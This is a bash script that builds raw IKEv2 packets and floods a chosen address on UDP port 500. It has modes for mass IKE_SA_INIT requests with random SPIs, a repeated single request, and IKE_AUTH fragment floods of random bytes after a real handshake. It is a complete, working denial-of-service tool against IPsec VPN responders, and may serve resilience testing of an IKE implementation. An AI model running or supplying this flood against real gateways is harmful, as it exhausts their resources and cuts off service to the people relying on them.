#!/bin/bash
# ike-flood.sh: a host that means ill, and has no keys.
#
#   ike-flood.sh init COUNT ADDRESS        so many first requests, each with an SPI and from a port of its own
#   ike-flood.sh repeat COUNT ADDRESS      one first request, so many times, from one port
#   ike-flood.sh fragments COUNT ADDRESS   one exchange of IKE_SA_INIT, then so many fragments of IKE_AUTH under its SPIs, of
#                                          random octets, since the keys are wanting (RFC 7383 section 2.5)
#
# Prints how many were sent. It sends as fast as it can, and waits for nothing but the answer that it needs.

fail() {
    echo "ike-flood.sh: $*" >&2
    exit 1
}

[ $# = 3 ] || fail "expecting init, repeat or fragments, COUNT and ADDRESS"
what=$1 count=$2 address=$3

# octets HEX: as printf takes them.
octets() {
    local hex=$1 text=
    while [ -n "$hex" ]; do
        text+="\\x${hex:0:2}"
        hex=${hex:2}
    done
    printf '%s' "$text"
}

# random N: sets $drawn to N octets, the first of them not 0, as printf takes them.
random() {
    local numbers=()
    while [ ${#numbers[@]} -lt "$1" ]; do numbers+=($((RANDOM & 255 | 1))); done
    printf -v drawn '\\x%02x' "${numbers[@]}"
}

zeros=0000000000000000
# IKE_SA_INIT with AES-GCM-256, PRF HMAC-SHA2-256, Curve25519, and behind the SPIs the same for all: RFC 7296 section 3.
proposal=0000002401010003"0300000c01000014800e0100"0300000802000005000000080400001f
exchange=2800002"8001f0000"09$zeros$zeros$zeros${zeros:2}
nonce=00000024$(printf '5a%.0s' {1..32})
rest=$(octets "${zeros}212022080000000000000090""22000028$proposal""$exchange$nonce")

case $what in
init)
    for ((sent = 0; sent < count; sent++)); do
        random 8
        printf "$drawn$rest" >"/dev/udp/$address/500"
    done
    ;;
repeat)
    random 8
    exec 3<>"/dev/udp/$address/500" || fail "no socket"
    for ((sent = 0; sent < count; sent++)); do printf "$drawn$rest" >&3; done
    ;;
fragments)
    random 8
    spi=$drawn
    exec 3<>"/dev/udp/$address/500" || fail "no socket"
    printf "$spi$rest" >&3
    answer=$(timeout 10 dd bs=2048 count=1 status=none <&3 | od -A n -t x1 -v | tr -d ' \n')
    [ ${#answer} -gt 56 ] || fail "no answer"
    # The Encrypted Fragment payload (RFC 7383 section 2.5): number 1 of 2, 8 octets of vector, 72 more.
    head=$spi$(octets "${answer:16:16}3520230800000001""00000074""2300005800010002")
    for ((sent = 0; sent < count; sent++)); do
        [ $((sent % 50)) != 0 ] || random 80
        printf "$head$drawn" >&3
    done
    ;;
*) fail "unknown: $what" ;;
esac
echo "$sent sent"
